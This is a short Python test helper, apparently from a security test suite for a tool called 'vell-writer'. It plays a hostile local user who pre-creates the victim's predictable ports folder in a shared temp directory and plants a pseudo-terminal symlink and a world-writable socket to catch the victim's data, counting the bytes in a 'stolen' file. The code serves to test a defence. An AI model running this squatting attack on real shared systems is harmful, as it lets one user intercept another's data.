#!/usr/bin/python3
# Another local user's attack on the fallback ports folder, run as that user (nobody, through
# setpriv): it makes <tmp>/vell-writer-<victim uid>/ports before the victim does, and plants a
# port link "planted" to a pseudo-terminal of its own and a transfer socket "planted.transfer"
# that takes whatever comes and keeps the count in <tmp>/stolen. Says "ready" once planted, and
# holds everything until its standard input closes.
import os, select, socket, sys

tmp, victim = sys.argv[1], sys.argv[2]
ports = os.path.join(tmp, "vell-writer-" + victim, "ports")
os.makedirs(ports, mode=0o755)
master, slave = os.openpty()
os.symlink(os.ttyname(slave), os.path.join(ports, "planted"))
listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
listener.bind(os.path.join(ports, "planted.transfer"))
os.chmod(os.path.join(ports, "planted.transfer"), 0o777)
listener.listen(4)
stolen = 0


def record(count):
    # Written aside and renamed into place: a reader never sees the file half written.
    aside = os.path.join(tmp, ".stolen")
    with open(aside, "w") as file:
        file.write("%d\n" % count)
    os.rename(aside, os.path.join(tmp, "stolen"))


record(0)
print("ready", flush=True)
clients = []
while True:
    ready, _, _ = select.select([sys.stdin, listener] + clients, [], [])
    if sys.stdin in ready and not sys.stdin.readline():
        break
    if listener in ready:
        clients.append(listener.accept()[0])
    for client in [c for c in clients if c in ready]:
        data = client.recv(65536)
        if data:
            stolen += len(data)
            record(stolen)
        else:
            clients.remove(client)
            client.close()
